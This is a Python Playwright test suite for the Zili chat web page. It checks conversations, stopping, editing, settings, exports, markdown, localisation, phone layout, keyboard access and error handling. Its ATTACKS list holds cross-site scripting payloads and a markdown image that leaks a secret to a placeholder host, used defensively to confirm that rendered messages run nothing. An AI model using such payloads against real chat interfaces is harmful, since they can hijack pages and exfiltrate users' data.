"""The chat page in a real browser: Debian's Chromium, driven by Playwright."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from served import Place, serve_a_tiny_model, slowed
from waiting import until

from zili.serving.http.keys import Keys

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium (Debian: apt install chromium)")
Page = Any


@pytest.fixture(scope="module")
def place() -> Iterator[Place]:
    yield from serve_a_tiny_model(Keys())


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def page(browser: Any, place: Place) -> Iterator[Page]:
    """The page, as someone new sees it. Any error in its scripts fails the test."""
    context = browser.new_context(locale="en-US", viewport={"width": 1100, "height": 750}, accept_downloads=True)
    context.set_default_timeout(15_000)
    page, errors = context.new_page(), []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(place.url)
    page.locator("#model", has_text="tiny").wait_for()
    yield page
    context.close()
    assert errors == []


def ask(page: Page, text: str) -> None:
    page.fill("#question", text)
    page.press("#question", "Enter")


def ended(page: Page, how: str = "Answer complete") -> None:
    page.locator("#status", has_text=how).wait_for()


def answers(page: Page) -> list[str]:
    return page.locator(".turn.assistant .body").all_inner_texts()


def saying(page: Page, *texts: str, finish: str = "stop") -> list[Any]:
    """Let the server answer with `texts` instead of a model; returns the requests as they come."""
    asked: list[Any] = []
    left = list(texts)

    def answer(route: Any) -> None:
        asked.append(route.request.post_data_json)
        text = left.pop(0) if len(left) > 1 else left[0]
        pieces = [text[i : i + 7] for i in range(0, len(text), 7)]
        events = [{"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]} for piece in pieces]
        events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": finish}]})
        events.append({"choices": [], "usage": {"prompt_tokens": 5, "completion_tokens": 7}})
        lines = [f"data: {json.dumps(event)}\n\n" for event in events]
        route.fulfill(status=200, content_type="text/event-stream", body="".join(lines) + "data: [DONE]\n\n")

    page.route("**/v1/chat/completions", answer)
    return asked


def test_a_conversation_with_the_model(page: Page, place: Place) -> None:
    page.click("#open-settings")
    page.fill("[name=temperature]", "0")
    page.fill("[name=max_tokens]", "20")
    page.click("button[value=save]")
    ask(page, "What is the colour of snow?")
    ended(page)
    said = place.post(
        "/v1/chat/completions",
        {"messages": [{"role": "user", "content": "What is the colour of snow?"}], "temperature": 0, "max_tokens": 20},
    )[1]["choices"][0]["message"]["content"]
    (shown,) = answers(page)
    plain = [letter for letter in said if letter.isalnum()]
    assert plain and [letter for letter in shown if letter.isalnum()] == plain
    assert "tokens," in page.locator(".turn.assistant .tools").inner_text()
    assert page.title() == "What is the colour of snow? – Zili"


def test_stop_stops_the_server(page: Page, place: Place) -> None:
    def endlessly(route: Any) -> None:
        route.continue_(post_data=json.dumps({**route.request.post_data_json, "ignore_eos": True}))

    page.route("**/v1/chat/completions", endlessly)
    with slowed(place.served.engine):  # else it has said all before anyone can stop it
        ask(page, "Tell me everything")
        page.click("#stop")
        ended(page, "Stopped")
        until(lambda: place.served.engine.load == (0, 0), seconds=10)  # not the 20 that all would take
    assert page.locator("#send").is_visible() and not page.locator("#stop").is_visible()


def test_regenerate_and_edit(page: Page) -> None:
    asked = saying(page, "first", "second", "third")
    ask(page, "one")
    ended(page)
    page.get_by_role("button", name="Regenerate").click()
    page.locator(".turn.assistant", has_text="second").wait_for()
    assert answers(page) == ["second"] and asked[0]["messages"] == asked[1]["messages"]
    page.get_by_role("button", name="Edit").click()
    page.fill(".turn textarea", "two")
    page.get_by_role("button", name="Send").first.click()
    page.locator(".turn.assistant", has_text="third").wait_for()
    assert asked[2]["messages"] == [{"role": "user", "content": "two"}] and answers(page) == ["third"]


def test_settings_are_sent_and_kept(page: Page) -> None:
    asked = saying(page, "yes")
    page.click("#open-settings")
    page.fill("[name=system]", "Be brief.")
    page.fill("[name=top_p]", "0.5")
    page.click("button[value=save]")
    ask(page, "one")
    ended(page)
    page.reload()
    assert answers(page) == ["yes"]
    ask(page, "two")
    ended(page)
    assert [message["content"] for message in asked[1]["messages"]] == ["Be brief.", "one", "yes", "two"]
    assert asked[1]["top_p"] == 0.5 and "max_tokens" not in asked[1]


def test_conversations_are_named_exported_and_deleted(page: Page) -> None:
    saying(page, "yes")
    for text in ("apples", "pears"):
        page.click("#new")
        ask(page, text)
        ended(page)
    assert page.locator("#conversations .open").all_inner_texts() == ["pears", "apples"]
    page.once("dialog", lambda dialog: dialog.accept("fruit"))
    page.get_by_role("button", name="Rename").first.click()
    assert page.locator("#conversations .open").first.inner_text() == "fruit"
    with page.expect_download() as download:
        page.get_by_role("button", name="Export").first.click()
    assert json.loads(Path(download.value.path()).read_text(encoding="utf-8")) == {
        "title": "fruit",
        "messages": [{"role": "user", "content": "pears"}, {"role": "assistant", "content": "yes"}],
    }
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Delete").first.click()
    assert page.locator("#conversations .open").all_inner_texts() == ["apples"]
    page.reload()
    assert page.locator(".turn.user .body").inner_text() == "apples"


def test_markdown_and_code_with_copy(page: Page, place: Place) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=place.url)
    saying(page, "# Title\n\n- **one**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('x')\n```\n")
    ask(page, "show")
    ended(page)
    body = page.locator(".turn.assistant .body")
    assert body.locator("h1").inner_text() == "Title" and body.locator("li strong").inner_text() == "one"
    assert body.locator("td").all_inner_texts() == ["1", "2"]
    body.locator("pre .copy").click()
    until(lambda: page.evaluate("() => navigator.clipboard.readText()") == "print('x')\n")


def test_thoughts_are_folded_and_not_sent_back(page: Page) -> None:
    asked: list[Any] = []

    def answer(route: Any) -> None:
        asked.append(route.request.post_data_json)
        deltas = ({"reasoning_content": "hm, *well*"}, {"content": "yes"})
        lines = [f"data: {json.dumps({'choices': [{'index': 0, 'delta': delta}]})}\n\n" for delta in deltas]
        route.fulfill(status=200, content_type="text/event-stream", body="".join(lines) + "data: [DONE]\n\n")

    page.route("**/v1/chat/completions", answer)
    ask(page, "one")
    ended(page)
    assert not page.locator(".thoughts em").is_visible()
    page.locator(".thoughts summary").click()
    assert page.locator(".thoughts em").inner_text() == "well"
    ask(page, "two")
    ended(page)
    assert asked[1]["messages"][1] == {"role": "assistant", "content": "yes"}


ATTACKS = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=\"document.title='owned'\">",
    "[click](javascript:document.title='owned')",
    "<a href=\"data:text/html,<script>parent.document.title='owned'</script>\">x</a>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<form action=/v1/models><button id=send>Send</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='owned'\">",
    "<div id=question style='position:fixed;inset:0'>over everything</div>",
    "```html\n</code></pre><script>document.title='owned'</script>\n```",
    "![x](https://example.invalid/leak?q=secret)",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("by", ["model", "user"])
def test_what_is_written_does_nothing(page: Page, attack: str, by: str) -> None:
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    saying(page, attack if by == "model" else "yes")
    ask(page, "hello" if by == "model" else attack)
    ended(page)
    for link in page.locator(".turn a").all():
        link.dispatch_event("click")
    page.wait_for_timeout(100)
    assert "owned" not in page.title() or by == "user"
    for selector in ("script", "iframe", "svg", "img", "form", "style", "[onerror]", "[onload]", "[style]", "[id]"):
        assert page.locator(f"#messages {selector}").count() == 0
    assert not [
        href for href in page.eval_on_selector_all(".turn a", "all => all.map(a => a.href)") if "script:" in href
    ]
    assert all(url.endswith("/v1/chat/completions") for url in requests)
    if by == "user":
        assert page.locator(".turn.user .body").inner_text().strip() == attack.strip()


def test_enter_while_composing_does_not_send(page: Page) -> None:
    asked = saying(page, "yes")
    page.fill("#question", "ni hao")
    page.eval_on_selector(
        "#question",
        "area => area.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', isComposing: true, bubbles: true}))",
    )
    page.eval_on_selector(
        "#question",
        "area => area.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', keyCode: 229, bubbles: true}))",
    )
    page.press("#question", "Shift+Enter")
    page.wait_for_timeout(100)
    assert asked == [] and page.input_value("#question") == "ni hao\n"
    page.press("#question", "Enter")
    ended(page)
    assert asked[0]["messages"][0]["content"] == "ni hao"


def test_chinese(page: Page, browser: Any, place: Place) -> None:
    page.click("#language")
    assert page.locator("#send").inner_text() == "发送" and page.get_attribute("html", "lang") == "zh"
    page.reload()
    assert page.locator("#new").inner_text() == "新对话"
    context = browser.new_context(locale="zh-CN")
    other = context.new_page()
    other.goto(place.url)
    assert other.locator("#send").inner_text() == "发送"
    context.close()


def test_a_phone(page: Page) -> None:
    page.set_viewport_size({"width": 360, "height": 700})
    saying(page, "a" * 400 + "\n\n```\n" + "b" * 400 + "\n```")
    ask(page, "long " + "c" * 300)
    ended(page)
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 360
    page.locator("#new").wait_for(state="hidden")
    page.click("#open-side")
    page.locator("#new").wait_for(state="visible")
    page.keyboard.press("Escape")
    page.locator("#side").wait_for(state="hidden")


def test_everything_is_reached_by_keyboard_and_has_a_name(page: Page) -> None:
    saying(page, "yes")
    ask(page, "one")
    ended(page)
    seen = set()
    for _ in range(30):
        page.keyboard.press("Tab")
        seen.add(
            page.evaluate(
                "() => document.activeElement.ariaLabel || document.activeElement.labels?.[0]?.textContent"
                " || document.activeElement.textContent"
            ).strip()
        )
    assert {
        "New chat",
        "Settings",
        "Edit",
        "Copy",
        "Regenerate",
        "Rename",
        "Delete",
        "Export",
        "Message",
        "Send",
    } <= seen
    nameless = page.eval_on_selector_all(
        "button, input, textarea",
        "all => all.filter(x => !(x.ariaLabel || x.textContent.trim() || x.labels?.length)).length",
    )
    assert nameless == 0


def test_errors_are_shown_and_tried_again(page: Page) -> None:
    refused = {"error": {"message": "30 requests a minute are allowed"}}
    page.route("**/v1/chat/completions", lambda route: route.fulfill(status=429, json=refused))
    ask(page, "one")
    page.locator(".error", has_text="30 requests a minute").wait_for()
    page.unroute("**/v1/chat/completions")
    page.route("**/v1/chat/completions", lambda route: route.abort())
    page.get_by_role("button", name="Retry").click()
    page.locator(".error", has_text="The connection was lost.").wait_for()
    page.unroute("**/v1/chat/completions")
    saying(page, "there you are", finish="length")
    page.get_by_role("button", name="Retry").click()
    ended(page)
    assert answers(page) == ["there you are"] and page.locator("text=has reached its limit").is_visible()
